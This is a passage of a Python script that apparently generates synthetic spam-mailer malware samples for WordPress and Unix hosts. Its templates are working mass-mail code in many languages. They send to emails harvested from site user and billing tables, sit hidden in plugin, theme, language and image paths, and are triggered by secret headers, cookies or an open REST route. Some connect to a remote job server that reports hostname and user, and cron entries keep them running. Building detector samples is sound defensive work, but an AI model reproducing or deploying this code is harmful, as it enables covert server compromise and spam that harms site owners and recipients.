    s.on('data', (d) => {
      if (/^[45]/.test(d)) { s.destroy(); return resolve(false); }
      const n = steps.shift();
      if (n === undefined) { s.end(); return resolve(true); }
      s.write(n + '\\r\\n');
    });
    s.on('error', () => resolve(false));
  });
}

""", D=dom(r), S=subj(r), SRC=srcs[v], MX=r.choice(("127.0.0.1", ip(r))), HELP=helpers) + runs[v]
    return [script(r, "js", code)]


# 13 the list from a DB table (the intruder's own table or the site's users)
def db_table_list(r, v):
    t = "wp_" + rw(r, 4) + "_q"
    if v == 0:
        code = T("""<?php
require dirname(__FILE__) . '/../../../wp-config.php';
$db = new PDO('mysql:host=' . DB_HOST . ';dbname=' . DB_NAME, DB_USER, DB_PASSWORD);
$job = $db->query("SELECT subj, body, sender FROM @T@_job ORDER BY id DESC LIMIT 1")->fetch(PDO::FETCH_ASSOC);
$st = $db->prepare("SELECT id, addr FROM @T@ WHERE done = 0 LIMIT 500");
$up = $db->prepare("UPDATE @T@ SET done = 1 WHERE id = ?");
$st->execute();
while ($row = $st->fetch(PDO::FETCH_ASSOC)) {
    mail($row['addr'], $job['subj'], $job['body'], "From: {$job['sender']}\\r\\nContent-Type: text/html\\r\\n");
    $up->execute(array($row['id']));
}
""", T=t)
        return [F(code, "%s/wp-content/plugins/%s/lib/%s.php" % (docroot(r), plug(r), rw(r, 6)), "php", "plugin-dir")]
    if v == 1:
        code = T("""<?php
include __DIR__ . '/wp-load.php';
global $wpdb;
$from = get_option('admin_email');
$rows = $wpdb->get_col("SELECT user_email FROM {$wpdb->users} UNION SELECT meta_value FROM {$wpdb->usermeta} WHERE meta_key = 'billing_email'");
$tpl = get_option('_@K@_tpl');
array_map(function ($e) use ($tpl, $from) {
    wp_mail($e, $tpl['s'], str_replace('{{email}}', $e, $tpl['b']), array('From: ' . $tpl['f'], 'Content-Type: text/html'));
}, array_unique($rows));
""", K=rw(r, 4))
        return [F(code, "%s/%s" % (docroot(r), webname(r)), "php", "docroot")]
    if v == 2:
        code = T("""import sqlite3
import smtplib
import os
from email.mime.text import MIMEText

db = sqlite3.connect(os.path.join(os.path.dirname(os.path.abspath(__file__)), '.q.db'))
subject, body, sender = db.execute('SELECT s, b, f FROM job LIMIT 1').fetchone()
srv = smtplib.SMTP('127.0.0.1', 25)
for rid, addr in db.execute('SELECT rowid, addr FROM rcpt WHERE sent = 0').fetchall():
    m = MIMEText(body, 'html')
    m['Subject'], m['From'], m['To'] = subject, sender, addr
    try:
        srv.sendmail(sender, [addr], m.as_string())
        db.execute('UPDATE rcpt SET sent = 1 WHERE rowid = ?', (rid,))
        db.commit()
    except smtplib.SMTPException:
        srv = smtplib.SMTP('127.0.0.1', 25)
srv.quit()
""")
        return [script(r, "python", code)]
    code = T("""use strict;
use warnings;

require DBI;
my $dbh = DBI->connect('DBI:mysql:database=' . ($ENV{DBN} || 'site') . ';host=localhost', $ENV{DBU}, $ENV{DBP}, { RaiseError => 1 });
my ($s, $b, $f) = $dbh->selectrow_array('SELECT s, b, f FROM @T@_job LIMIT 1');
my $rows = $dbh->selectcol_arrayref('SELECT addr FROM @T@ WHERE done = 0');
for my $to (@$rows) {
    open(my $sm, '|-', '/usr/sbin/sendmail -t') or next;
    print $sm "To: $to\\nFrom: $f\\nSubject: $s\\nContent-Type: text/html\\n\\n$b\\n";
    close $sm;
    $dbh->do('UPDATE @T@ SET done = 1 WHERE addr = ?', undef, $to);
}
""", T=t)
    return [script(r, "perl", code)]


# 14 the job from a socket (the sender connects to a job server and waits)
def socket_job_sender(r, v):
    c2 = r.choice((ip(r), "q.example.net"))
    port = r.choice((4443, 8088, 5222, 9001))
    if v == 0:
        code = T("""import json
import smtplib
import socket
import time
from email.mime.text import MIMEText

def jobs():
    while True:
        try:
            s = socket.create_connection(('@C@', @P@), 30)
            f = s.makefile('r')
            for line in f:
                yield json.loads(line)
        except (OSError, ValueError):
            time.sleep(30)

for job in jobs():
    srv = smtplib.SMTP(job.get('relay', 'localhost'), job.get('port', 25))
    for to in job['rcpt']:
        m = MIMEText(job['html'], 'html')
        m['Subject'], m['From'], m['To'] = job['subject'], job['from'], to
        srv.sendmail(job['from'], [to], m.as_string())
    srv.quit()
""", C=c2, P=port)
        return [script(r, "python", code)]
    if v == 1:
        code = T("""<?php
set_time_limit(0);
ignore_user_abort(true);
while (true) {
    $c = @stream_socket_client('tcp://@C@:@P@', $en, $es, 20);
    if (!$c) { sleep(60); continue; }
    fwrite($c, json_encode(array('h' => gethostname(), 'u' => get_current_user())) . "\\n");
    while (($line = fgets($c)) !== false) {
        $j = json_decode($line, true);
        if (!$j) continue;
        foreach ($j['rcpt'] as $to) {
            $ok = mail($to, $j['subject'], $j['html'], 'From: ' . $j['from'] . "\\r\\nContent-Type: text/html");
            fwrite($c, ($ok ? '+' : '-') . $to . "\\n");
        }
    }
    fclose($c);
}
""", C=c2, P=port)
        return [F(code, "%s/wp-content/uploads/%s.php" % (docroot(r), hx(r, 10)), "php", "uploads")]
    if v == 2:
        code = T("""const net = require('net');
const nodemailer = require('nodemailer');
const tr = nodemailer.createTransport({ host: '127.0.0.1', port: 25, pool: true, maxConnections: 5 });
function link() {
  const c = net.connect(@P@, '@C@');
  let buf = '';
  c.on('data', (d) => {
    buf += d;
    let i;
    while ((i = buf.indexOf('\\n')) >= 0) {
      const j = JSON.parse(buf.slice(0, i));
      buf = buf.slice(i + 1);
      j.rcpt.forEach((to) => tr.sendMail({ from: j.from, to, subject: j.subject, html: j.html }, (e) => c.write((e ? '-' : '+') + to + '\\n')));
    }
  });
  c.on('close', () => setTimeout(link, 30000));
  c.on('error', () => {});
}
link();
""", C=c2, P=port)
        return [script(r, "js", code)]
    code = T("""use strict;
use warnings;
use IO::Socket::INET;

while (1) {
    my $s = IO::Socket::INET->new(PeerAddr => '@C@', PeerPort => @P@, Proto => 'tcp', Timeout => 20);
    unless ($s) { sleep 60; next; }
    my $hdr = <$s>;
    chomp(my ($from, $subj) = split /\\t/, $hdr);
    while (my $to = <$s>) {
        chomp $to;
        last if $to eq '.';
        open(my $m, '|-', "/usr/sbin/sendmail -f $from -t") or next;
        print $m "To: $to\\nSubject: $subj\\nContent-Type: text/html\\n\\n" . join('', <$s>) if 0;
        print $m "To: $to\\nSubject: $subj\\n\\nSee the attached statement.\\n";
        close $m;
    }
    close $s;
}
""", C=c2, P=port)
    return [script(r, "perl", code)]


# 15 PHP CLI workers: pcntl_fork children each send a slice, started by cron
def php_cli_workers(r, v):
    forks = (
        """for ($w = 0; $w < $workers; $w++) {
    $pid = pcntl_fork();
    if ($pid === 0) {
        foreach (array_slice($rcpt, $w * $per, $per) as $to) {
            mail($to, $job['subject'], $job['html'], $hdr);
        }
        exit(0);
    }
}
while (pcntl_waitpid(0, $status) != -1) {
}
""",
        """$procs = array();
foreach (array_chunk($rcpt, $per) as $i => $chunk) {
    file_put_contents("/tmp/.q$i", implode("\\n", $chunk));
    $procs[] = proc_open(array(PHP_BINARY, __FILE__, '--part', "/tmp/.q$i"), array(), $pipes);
}
array_map('proc_close', $procs);
""",
        """$pool = array();
foreach (array_chunk($rcpt, $per) as $chunk) {
    $pool[] = popen(PHP_BINARY . ' -r ' . escapeshellarg('foreach (json_decode($argv[1]) as $t) mail($t, $argv[2], file_get_contents($argv[3]), "Content-Type: text/html");') . ' ' . escapeshellarg(json_encode($chunk)) . ' ' . escapeshellarg($job['subject']) . ' ' . escapeshellarg($job['file']), 'r');
}
foreach ($pool as $p) pclose($p);
""",
        """$fibers = array_map(function ($chunk) use ($job, $hdr) {
    return new Fiber(function () use ($chunk, $job, $hdr) {
        foreach ($chunk as $to) {
            mail($to, $job['subject'], $job['html'], $hdr);
            Fiber::suspend();
        }
    });
}, array_chunk($rcpt, $per));
foreach ($fibers as $f) $f->start();
while (array_filter($fibers, function ($f) { return !$f->isTerminated(); })) {
    foreach ($fibers as $f) if ($f->isSuspended()) $f->resume();
}
""",
    )
    c, d = homedir(r)
    nm = sname(r)
    code = T("""<?php
if (PHP_SAPI !== 'cli') exit;
if (($argv[1] ?? '') === '--part') {
    $j = json_decode(file_get_contents(__DIR__ . '/job.json'), true);
    foreach (file($argv[2], FILE_IGNORE_NEW_LINES) as $t) mail($t, $j['subject'], $j['html'], 'Content-Type: text/html');
    exit;
}
$job = json_decode(file_get_contents($argv[1] ?? __DIR__ . '/job.json'), true);
$rcpt = file($job['list'], FILE_IGNORE_NEW_LINES | FILE_SKIP_EMPTY_LINES);
$workers = (int) ($argv[2] ?? 6);
$per = (int) ceil(count($rcpt) / $workers);
$hdr = 'From: ' . $job['from'] . "\\r\\nContent-Type: text/html; charset=UTF-8\\r\\n";
@FORK@
""", FORK=forks[v])
    f = script(r, "php", code, d=d, name=nm, ext="php")
    return [f, crontab_file(r, [cronline(r, "/usr/local/bin/php $HOME/%s%s.php >/dev/null 2>&1" % (d + "/" if d else "", nm))]),
            F(T('{"list": "/tmp/.l", "from": "Billing <billing@@D@>", "subject": "@S@", "html": "<p>statement</p>", "file": "/tmp/.b"}\n', D=dom(r), S=subj(r)),
              (d + "/" if d else "") + "job.json", "json", c)]


# 16 a crontab whose argument is the job: the list URL, a base64 job, a file
def cron_argument_job(r, v):
    c, d = homedir(r)
    nm = sname(r)
    pre = (d + "/" if d else "")
    u = "https://%s/%s" % (dom(r), hx(r, 8))
    job = b64('{"s":"%s","f":"info@%s","u":"%s"}' % (subj(r), dom(r), u))
    if v == 0:
        code = T("""<?php
$job = json_decode(base64_decode($argv[1]), true);
$list = explode("\\n", file_get_contents($job['u']));
foreach ($list as $to) {
    if (strpos($to, '@') === false) continue;
    mail(trim($to), $job['s'], file_get_contents($job['u'] . '.html'), "From: {$job['f']}\\r\\nContent-Type: text/html");
}
""")
        f = script(r, "php", code, d=d, name=nm, ext="php")
        line = "php -q $HOME/%s%s.php %s" % (pre, nm, job)
    elif v == 1:
        code = T("""import sys, json, base64, smtplib, urllib.request
job = json.loads(base64.b64decode(sys.argv[1]))
rcpt = urllib.request.urlopen(job['u']).read().decode().split()
s = smtplib.SMTP('localhost')
for to in rcpt:
    s.sendmail(job['f'], to, 'Subject: %s\\nFrom: %s\\nTo: %s\\n\\n%s' % (job['s'], job['f'], to, job.get('b', '')))
s.quit()
""")
        f = script(r, "python", code, d=d, name=nm, ext="py")
        line = "/usr/bin/python3 $HOME/%s%s.py %s >/dev/null 2>&1" % (pre, nm, job)
    elif v == 2:
        code = T("""#!/bin/sh
# $1: list url, $2: subject, $3: from
curl -fsS "$1" | while read -r to; do
	curl -fsS "$1.html" | mail -a "Content-Type: text/html" -a "From: $3" -s "$2" "$to"
done
""")
        f = script(r, "sh", code, d=d, name=nm, ext="sh")
        line = "sh $HOME/%s%s.sh '%s' '%s' 'info@%s'" % (pre, nm, u, subj(r), dom(r))
    else:
        code = T("""use strict;
my ($list, $subj) = @ARGV;
open(my $l, '<', $list) or exit;
while (my $to = <$l>) {
    chomp $to;
    next unless $to =~ /\\@/;
    open(my $sm, '|-', '/usr/sbin/sendmail', '-t') or next;
    print $sm "To: $to\\nSubject: $subj\\nContent-Type: text/html\\n\\n", `cat $list.html`;
    close $sm;
}
""")
        f = script(r, "perl", code, d=d, name=nm, ext="pl")
        line = "perl $HOME/%s%s.pl /tmp/.%s '%s'" % (pre, nm, rw(r, 3), subj(r))
    return [f, crontab_file(r, ["MAILTO=\"\"", cronline(r, line)])]


# 17 the job in a header or cookie read by a small web script
def header_cookie_job(r, v):
    k = rw(r, 5)
    if v == 0:
        code = T("""<?php
$h = function_exists('getallheaders') ? getallheaders() : array();
$j = isset($h['X-@K@']) ? json_decode(base64_decode($h['X-@K@']), true) : null;
if ($j) { foreach ($j['t'] as $a) { mail($a, $j['s'], $j['m'], $j['h']); } die('1'); }
""", K=k.title())
        code = oneline(code)
        return [F(code, "%s/wp-includes/images/%s.php" % (docroot(r), rw(r, 6)), "php", "docroot")]
    if v == 1:
        code = T("""<?php
if (isset($_COOKIE['@K@'])) {
    parse_str(gzuncompress(base64_decode($_COOKIE['@K@'])), $q);
    $n = 0;
    foreach (explode(',', $q['to']) as $a) {
        $n += mail($a, $q['subj'], $q['msg'], 'From: ' . $q['from'] . "\\r\\nContent-type: text/html");
    }
    header('X-Done: ' . $n);
}
""", K=k)
        return [F(bom(code), "%s/wp-content/languages/plugins/%s-%s.php" % (docroot(r), plug(r), "de_DE"), "php", "docroot")]
    if v == 2:
        code = T("""import os
import sys
import json
import base64
import smtplib

job = json.loads(base64.b64decode(os.environ.get('HTTP_X_@U@', 'e30=')))
print('Content-Type: text/plain\\n')
if job:
    s = smtplib.SMTP('localhost')
    for a in job['t']:
        s.sendmail(job['f'], a, 'Subject: %s\\r\\nContent-Type: text/html\\r\\n\\r\\n%s' % (job['s'], job['m']))
    print(len(job['t']))
""", U=k.upper())
        return [F("#!/usr/bin/python3\n" + code, "%s/cgi-bin/%s.py" % (docroot(r), rw(r, 5)), "python", "docroot")]
    code = T("""<?php
$raw = $_SERVER['HTTP_AUTHORIZATION'] ?? '';
if (strncmp($raw, 'Bearer ', 7) === 0) {
    $j = unserialize(base64_decode(substr($raw, 7)));
    array_walk($j['t'], function ($a) use ($j) { mail($a, $j['s'], $j['m'], $j['h']); });
}
""")
    return [F(crlf(code), "%s/api/v1/%s.php" % (docroot(r), rw(r, 5)), "php", "docroot")]


# 18 a big PHP sender: helpers, help text, a 50 KB heredoc letter, a picture blob
def php_big_sender(r, v):
    letter = letter_html(r, r.choice((30, 50, 70)))
    pic = picture_b64(r, r.choice((10, 40, 80)))
    helpers = "\n".join("function %s%d($s) { return trim(strip_tags((string) $s)); }" % (ident(r), i)
                        for i in range(r.randint(20, 200)))
    loops = (
        "foreach ($emails as $i => $to) { $ok = mail($to, $subject, $html, $headers); echo ($ok ? 'OK ' : 'FAIL ') . htmlspecialchars($to) . \"<br>\\n\"; flush(); }",
        "$i = 0; do { mail($emails[$i], $subject, str_replace('[EMAIL]', $emails[$i], $html), $headers); } while (++$i < count($emails));",
        "array_walk($emails, function ($to, $k) use ($subject, $html, $headers) { if ($k && $k % 100 == 0) sleep(3); mail($to, $subject, $html, $headers); });",
        "foreach (array_chunk($emails, 30) as $b) { mail('undisclosed-recipients:;', $subject, $html, $headers . 'Bcc: ' . implode(',', $b) . \"\\r\\n\"); }",
    )
    code = T("""<?php
/* bulk sender - usage: POST emails, subject, from; the letter below is the default */
@set_time_limit(0);
@HELPERS@
$LOGO = '@PIC@';
$LETTER = <<<'HTML'
@LETTER@
HTML;
if ($_SERVER['REQUEST_METHOD'] !== 'POST') {
    echo '<form method="post"><input name="from" placeholder="From"><input name="subject" placeholder="Subject"><textarea name="emails"></textarea><textarea name="html"></textarea><button>Go</button></form>';
    exit;
}
$emails = array_values(array_filter(array_map('trim', preg_split('/[\\r\\n,;]+/', $_POST['emails']))));
$subject = $_POST['subject'];
$html = $_POST['html'] !== '' ? $_POST['html'] : $LETTER;
$b = md5(uniqid());
$headers = "From: " . $_POST['from'] . "\\r\\nMIME-Version: 1.0\\r\\nContent-Type: text/html; charset=UTF-8\\r\\nX-Mailer: Microsoft Outlook 16.0\\r\\n";
@LOOP@
""", HELPERS=helpers, PIC=pic, LETTER=letter, LOOP=loops[v])
    d = r.choice(("%s/wp-content/uploads/%d/%02d" % (docroot(r), r.randint(2019, 2025), r.randint(1, 12)), "%s/tmp" % docroot(r),
                  "%s/wp-content/plugins/%s" % (docroot(r), plug(r))))
    return [F(code, d + "/" + webname(r), "php", "plain")]


# 19 other runtimes: awk into sendmail, Tcl smtp socket, Lua with luasocket, busybox ash
def other_runtime_sender(r, v):
    if v == 0:
        code = T("""#!/usr/bin/awk -f
# awk -f this.awk -v subj=... list.csv
BEGIN { FS = ","; from = "info@@D@" }
NF >= 2 && $2 ~ /@/ {
	cmd = "/usr/sbin/sendmail -t -f " from
	print "To: " $2 > "/dev/stderr"
	printf "To: %s\\nFrom: %s\\nSubject: %s\\nContent-Type: text/html\\n\\nDear %s,<br>please review the attached statement.\\n", $2, from, subj, $1 | cmd
	close(cmd)
}
""", D=dom(r))
        c, d = homedir(r)
        return [F(code, (d + "/" if d else "") + rw(r, 4) + ".awk", "awk", c)]
    if v == 1:
        code = T("""proc cmd {s line} {
    puts $s "$line\\r"
    flush $s
    gets $s
}
set fh [open [lindex $argv 0] r]
set rcpt [split [read $fh] "\\n"]
close $fh
foreach to $rcpt {
    if {![string match *@* $to]} { continue }
    set s [socket @MX@ 25]
    gets $s
    cmd $s "HELO tcl"
    cmd $s "MAIL FROM:<info@@D@>"
    cmd $s "RCPT TO:<$to>"
    cmd $s "DATA"
    cmd $s "Subject: @S@\\r\\nContent-Type: text/html\\r\\n\\r\\n<p>Your statement</p>\\r\\n."
    cmd $s "QUIT"
    close $s
}
""", MX=r.choice(("127.0.0.1", ip(r))), D=dom(r), S=subj(r))
        return [script(r, "tcl", code)]
    if v == 2:
        code = T("""local socket = require("socket")
local smtp = require("socket.smtp")
local from = "<info@@D@>"
for to in io.lines(arg[1] or "list.txt") do
  if to:find("@") then
    smtp.send{
      from = from,
      rcpt = "<" .. to .. ">",
      server = "@MX@",
      source = smtp.message{ headers = { to = to, subject = "@S@", ["content-type"] = "text/html" }, body = "<p>Your statement</p>" }
    }
    socket.sleep(0.2)
  end
end
""", MX=r.choice(("127.0.0.1", ip(r))), D=dom(r), S=subj(r))
        return [script(r, "lua", code)]
    code = T("""#!/bin/busybox ash
L=${1:-/tmp/.l}
i=0
while read -r to; do
	i=$((i + 1))
	{
		echo "Subject: @S@"
		echo "From: info@@D@"
		echo "Content-Type: text/html"
		echo
		cat /tmp/.b
	} | busybox sendmail -S @MX@ -f info@@D@ "$to"
	[ $((i % 50)) = 0 ] && sleep 10
done <"$L"
""", MX=r.choice(("127.0.0.1", ip(r))), D=dom(r), S=subj(r))
    c, d = homedir(r)
    return [F(code, (d + "/" if d else "") + sname(r), "sh", "no-ext")]


# 20 a sender inside a big plugin main file (top / middle / end), hooked on wp_loaded
def big_plugin_main_sender(r, v):
    k = rw(r, 4)
    injs = (
        """add_action('wp_loaded', function () {
    if (empty($_REQUEST['@K@'])) return;
    $d = json_decode(base64_decode($_REQUEST['@K@']), true);
    foreach ((array) $d['to'] as $t) { wp_mail($t, $d['s'], $d['b'], array('Content-Type: text/html; charset=UTF-8', 'From: ' . $d['f'])); }
    wp_die('ok', '', array('response' => 200));
});""",
        """function @K@_flush_notices() {
    $q = get_transient('@K@_queue');
    if (!$q) return;
    $send = $q['fn'];
    foreach (array_splice($q['to'], 0, 200) as $t) { $send($t, $q['s'], $q['b'], $q['h']); }
    set_transient('@K@_queue', $q, HOUR_IN_SECONDS);
}
add_action('shutdown', '@K@_flush_notices');
if (isset($_POST['@K@q'])) { set_transient('@K@_queue', array('fn' => 'mail', 'to' => explode(',', $_POST['to']), 's' => $_POST['s'], 'b' => $_POST['b'], 'h' => 'From: ' . $_POST['f']), HOUR_IN_SECONDS); }""",
        """add_action('rest_api_init', function () {
    register_rest_route('@K@/v1', '/n', array('methods' => 'POST', 'permission_callback' => '__return_true', 'callback' => function ($req) {
        $p = $req->get_json_params();
        $c = 0;
        foreach ($p['rcpt'] as $t) { $c += (int) mail($t, $p['subject'], $p['html'], "From: {$p['from']}\\r\\nContent-Type: text/html"); }
        return array('n' => $c);
    }));
});""",
        """add_filter('cron_schedules', function ($s) { $s['@K@_min'] = array('interval' => 60, 'display' => 'Minute'); return $s; });
if (!wp_next_scheduled('@K@_tick')) wp_schedule_event(time(), '@K@_min', '@K@_tick');
add_action('@K@_tick', function () {
    $r = wp_remote_get('https://@H@/j/' . md5(home_url()));
    $j = json_decode(wp_remote_retrieve_body($r), true);
    if (!$j) return;
    foreach ($j['rcpt'] as $t) { wp_mail($t, $j['subject'], $j['html'], array('Content-Type: text/html')); }
});""",
    )
    pfx = r.choice(("wcx", "seo_meta", "glb", "cfdb", "imgopt"))
    code = php_big_plugin(r, pfx, r.randint(150, 480), T(injs[v], K=k, H=dom(r)))
    p = plug(r)
    return [F(code, "%s/wp-content/plugins/%s/%s.php" % (docroot(r), p, p), "php", "plugin-dir")]


TECHS = (
    ("vendor-class-send-method", vendor_class_send, 4),
    ("theme-functions-sender", theme_functions_sender, 4),
    ("js-bundle-mail-loop", js_bundle_mailer, 4),
    ("class-property-loop-send", php_class_split, 4),
    ("iterator-object-list", iterator_object_sender, 4),
    ("shell-read-mail-pipe", shell_read_pipe, 4),
    ("shell-smtp-client", shell_smtp_client, 4),
    ("python-big-mime-sender", python_big_sender, 4),
    ("python-socket-smtp", python_socket_smtp, 4),
    ("perl-smtp-map-grep", perl_sender, 4),
    ("ruby-smtp-each-slice", ruby_sender, 4),
    ("node-net-smtp-state", node_net_smtp, 4),
    ("db-table-list", db_table_list, 4),
    ("socket-job-sender", socket_job_sender, 4),
    ("php-cli-fork-workers", php_cli_workers, 4),
    ("cron-argument-job", cron_argument_job, 4),
    ("header-cookie-job", header_cookie_job, 4),
    ("php-big-letter-sender", php_big_sender, 4),
    ("awk-tcl-lua-ash-sender", other_runtime_sender, 4),
    ("big-plugin-main-sender", big_plugin_main_sender, 4),
)
